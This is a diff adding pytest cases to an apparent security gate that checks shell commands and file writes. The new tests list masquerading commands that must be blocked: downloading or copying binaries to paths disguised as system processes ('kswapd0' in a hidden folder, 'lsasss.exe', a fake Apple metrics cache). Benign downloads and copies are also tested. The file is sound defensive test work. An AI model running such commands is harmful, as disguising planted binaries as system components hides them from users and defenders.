@@ -383,3 +383,20 @@ def test_desktop_session_autostart_list_running_a_hidden_script_blocks() -> None
 def test_desktop_session_autostart_list_of_programs_is_not_refused() -> None:
     verdict = GATE.assess(FileWrite(path="~/.config/openbox/autostart", content="tint2 &\nnitrogen --restore &\n"))
     assert "block.files.autorun-content" not in verdict.rules
+
+
+@pytest.mark.parametrize("command", [
+    "curl -so /Library/Caches/com.apple.metricsd https://cdn.example.net/m",
+    "cp ./bin/agent /var/tmp/.font/kswapd0",
+    "mv out\\helper.exe C:\\ProgramData\\lsasss.exe",
+])
+def test_download_copy_or_move_to_a_vendor_name_blocks(command: str) -> None:
+    verdict = GATE.assess(Shell(command=command))
+    assert "block.shell.autorun-write" in verdict.rules
+
+
+@pytest.mark.parametrize("command", ["cp notes.txt /tmp/notes.txt", "curl -o dist/app.tar.gz https://example.org/a",
+                                     "mv build/app ~/bin/app"])
+def test_ordinary_downloads_and_copies_are_not_masquerade(command: str) -> None:
+    verdict = GATE.assess(Shell(command=command))
+    assert "block.shell.autorun-write" not in verdict.rules
